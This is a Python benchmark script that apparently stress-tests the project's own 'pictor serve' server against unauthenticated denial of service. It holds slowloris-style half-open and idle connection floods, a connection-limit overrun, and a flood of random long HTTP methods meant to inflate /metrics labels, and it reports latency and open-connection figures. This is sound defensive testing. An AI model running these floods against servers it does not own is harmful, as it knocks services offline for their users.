#!/usr/bin/env python3
"""What an outsider can do to a running `pictor serve` without a key: slowloris and idle
connections, more connections than the server (or its file limit) allows, and /metrics
label growth. Prints one line per attack with its figures; standard library only.

    bench/attack.py http://127.0.0.1:8080 [--connections 200] [--hold 15]

Start the server under a low file limit to see the cap hold, for example:
    (ulimit -n 256; target/release/pictor serve) &
"""

from __future__ import annotations

import argparse
import random
import socket
import string
import time
import urllib.request
from urllib.parse import urlparse


def open_conn(host: str, port: int, send: bytes) -> socket.socket | None:
    try:
        s = socket.create_connection((host, port), timeout=5)
        if send:
            s.sendall(send)
        s.settimeout(0.05)
        return s
    except OSError:
        return None


def closed(s: socket.socket) -> bool:
    try:
        data = s.recv(65536)
        while data:  # a reply (408, 503) before the close
            data = s.recv(65536)
        return True
    except (socket.timeout, BlockingIOError):
        return False
    except OSError:
        return True


def healthz_ms(url: str) -> float | str:
    t = time.perf_counter()
    try:
        with urllib.request.urlopen(url + "/healthz", timeout=10) as r:
            r.read()
            return round((time.perf_counter() - t) * 1000, 1)
    except Exception as e:  # noqa: BLE001  (the figure is what failed)
        return f"failed ({type(e).__name__}: {e})"


def slowloris(url: str, n: int, hold: float) -> None:
    u = urlparse(url)
    kinds = {
        "silent": b"",
        "half request line": b"GET /heal",
        "headers, no body": b"POST /v1/images/generations HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n"
                            b"content-length: 100\r\n\r\n{",
        "idle after a response": b"GET /healthz HTTP/1.1\r\nhost: x\r\n\r\n",
    }
    conns = []
    for i in range(n):
        kind = list(kinds)[i % len(kinds)]
        conns.append((kind, open_conn(u.hostname, u.port, kinds[kind])))
    opened = sum(c is not None for _, c in conns)
    during = healthz_ms(url)
    start = time.time()
    open_at: dict[str, int] = {}
    while time.time() - start < hold:
        time.sleep(0.5)
    for kind, c in conns:
        if c is not None and not closed(c):
            open_at[kind] = open_at.get(kind, 0) + 1
    for _, c in conns:
        if c is not None:
            c.close()
    print(f"slowloris: {n} connections ({opened} opened), /healthz during: {during} ms; "
          f"still open after {hold:.0f} s: {sum(open_at.values())} {open_at or ''}")


def metrics_growth(url: str, n: int) -> None:
    def size() -> int:
        with urllib.request.urlopen(url + "/metrics", timeout=10) as r:
            return len(r.read())
    before = size()
    for _ in range(n):
        method = "".join(random.choices(string.ascii_uppercase, k=1001))
        req = urllib.request.Request(url + "/", method=method)
        try:
            urllib.request.urlopen(req, timeout=5)
        except Exception:  # noqa: BLE001  (every one is refused; the metric is what counts)
            pass
    print(f"metrics: {n} requests with random 1001-character methods; /metrics {before} -> {size()} bytes")


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("url")
    ap.add_argument("--connections", type=int, default=200)
    ap.add_argument("--hold", type=float, default=15.0, help="seconds to hold the connections")
    ap.add_argument("--metrics-requests", type=int, default=500)
    a = ap.parse_args()
    url = a.url.rstrip("/")
    slowloris(url, a.connections, a.hold)
    slowloris(url, a.connections + 100, a.hold)
    metrics_growth(url, a.metrics_requests)


if __name__ == "__main__":
    main()
